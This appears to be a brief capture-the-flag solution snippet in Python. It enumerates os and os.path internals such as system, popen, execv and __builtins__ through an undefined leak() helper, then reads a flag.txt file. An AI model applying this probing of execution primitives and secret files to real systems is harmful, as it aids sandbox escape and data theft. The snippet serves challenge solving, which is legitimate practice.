# source: own: the façade of the gates as a gadget
import os
import os.path
from os import path
for m in (os, path):
    for n in ('os', 'sys', 'stat', 'genericpath', 'posix', '_get_sep', 'st', 'abc', '_Environ', '_wrap_close', 'system', 'popen', 'fdopen', 'fork', 'execv', 'open', 'read', 'PathLike', 'supports_fd', '__builtins__', '__loader__', '__spec__'):
        leak(getattr(m, n, None))
leak(path.join('./results', 'flag.txt') and open(path.join('./results', 'flag.txt')).read())
